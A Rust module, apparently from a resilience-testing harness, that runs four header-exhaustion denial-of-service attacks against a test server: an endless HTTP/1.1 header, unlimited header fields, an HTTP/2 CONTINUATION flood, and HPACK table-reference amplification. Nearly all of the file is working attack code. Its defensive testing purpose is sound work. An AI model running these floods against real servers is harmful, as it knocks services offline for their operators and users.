//! Unlimited headers, in four kinds: one field that never ends, an unlimited number of fields, an
//! HTTP/2 header block that continues in CONTINUATION frames, and a small one that expands to
//! megabytes by references to the server's own table.

use std::io;
use std::sync::Arc;
use std::time::Instant;

use serde_json::Value;
use tokio::io::BufReader;
use tokio::net::TcpStream;
use tokio::net::tcp::OwnedWriteHalf;

use super::frames::{self, CONTINUATION, END_HEADERS, END_STREAM, HEADERS, MAX_PAYLOAD};
use super::{AttackArgs, Attacker, count_statuses, storm};
use crate::Outcome;

/// Maximum number of bytes of a header section before the attempt ends.
const MOST_BYTES: usize = 64 * 1024 * 1024;

pub(crate) async fn run(args: AttackArgs) -> Outcome<Value> {
    Ok(storm(&args, |attacker| async move {
        while attacker.goes_on() {
            let _ = send(&attacker).await;
        }
    })
    .await)
}

async fn send(attacker: &Attacker) -> io::Result<()> {
    let stream = attacker.connect().await?;
    let since = Instant::now();
    let ended = match attacker.number % 4 {
        0 => over_http1(attacker, stream, &[b'a'; MAX_PAYLOAD]).await,
        1 => over_http1(attacker, stream, "a: b\r\n".repeat(2048).as_bytes()).await,
        2 => continuation_flood(attacker, stream).await,
        _ => references(attacker, stream).await,
    };
    attacker.ended(since, ended.is_err()).await;
    ended
}

async fn over_http1(attacker: &Attacker, stream: TcpStream, part: &[u8]) -> io::Result<()> {
    let (reading, mut writing) = stream.into_split();
    let answers = count_statuses(reading, Arc::clone(&attacker.tally), None);
    let begun = b"GET /key HTTP/1.1\r\nhost: keyward.test\r\nx-huge: b\r\nx-more: ";
    let writing = async move {
        attacker.send(&mut writing, begun).await?;
        attacker.sent(1);
        repeat(attacker, &mut writing, part).await
    };
    tokio::select! {
        ended = writing => ended,
        () = answers => Err(io::ErrorKind::UnexpectedEof.into()),
    }
}

async fn repeat(attacker: &Attacker, writing: &mut OwnedWriteHalf, part: &[u8]) -> io::Result<()> {
    let mut sent = 0;
    while sent < MOST_BYTES {
        attacker.send(writing, part).await?;
        sent += part.len();
    }
    Ok(())
}

async fn continuation_flood(attacker: &Attacker, stream: TcpStream) -> io::Result<()> {
    let (reading, mut writing) = stream.into_split();
    let mut begun = frames::opening(&[]);
    let block = frames::request("GET", "/key", &[]);
    frames::frame(&mut begun, HEADERS, END_STREAM, 1, &block);
    let mut fields = Vec::new();
    while fields.len() < MAX_PAYLOAD - 64 {
        frames::field(&mut fields, b"x-huge", b"a value of some length", false);
    }
    let mut part = Vec::new();
    frames::frame(&mut part, CONTINUATION, 0, 1, &fields);
    let writing = async move {
        attacker.send(&mut writing, &begun).await?;
        attacker.sent(1);
        repeat(attacker, &mut writing, &part).await
    };
    tokio::select! {
        ended = writing => ended,
        ended = count_frames(attacker, BufReader::new(reading)) => ended,
    }
}

/// Adds a field to the server's table once and then references it in one byte thousands of times,
/// on one stream after another.
async fn references(attacker: &Attacker, stream: TcpStream) -> io::Result<()> {
    /// Size of a value that fills most of a server's initial table, in bytes.
    const VALUE_BYTES: usize = 3900;
    /// Reference to the newest entry of that table.
    const NEWEST: u8 = 0x80 | 62;
    let (reading, mut writing) = stream.into_split();
    let writing = async move {
        attacker.send(&mut writing, &frames::opening(&[])).await?;
        let mut sent = 0;
        let mut id = 1;
        while sent < MOST_BYTES / 4 {
            let mut block = frames::request("GET", "/key", &[]);
            frames::field(&mut block, b"x-huge", &[b'a'; VALUE_BYTES], true);
            block.resize(MAX_PAYLOAD, NEWEST);
            let mut out = Vec::new();
            frames::frame(&mut out, HEADERS, END_HEADERS | END_STREAM, id, &block);
            attacker.send(&mut writing, &out).await?;
            attacker.sent(1);
            sent += out.len();
            id += 2;
        }
        Ok(())
    };
    tokio::select! {
        ended = writing => ended,
        ended = count_frames(attacker, BufReader::new(reading)) => ended,
    }
}

/// Reads frames until the connection ends.
pub(super) async fn count_frames(
    attacker: &Attacker,
    mut reading: BufReader<tokio::net::tcp::OwnedReadHalf>,
) -> io::Result<()> {
    loop {
        if let Some(name) = frames::read(&mut reading).await?.name() {
            attacker.tally.answered(&name);
        }
    }
}
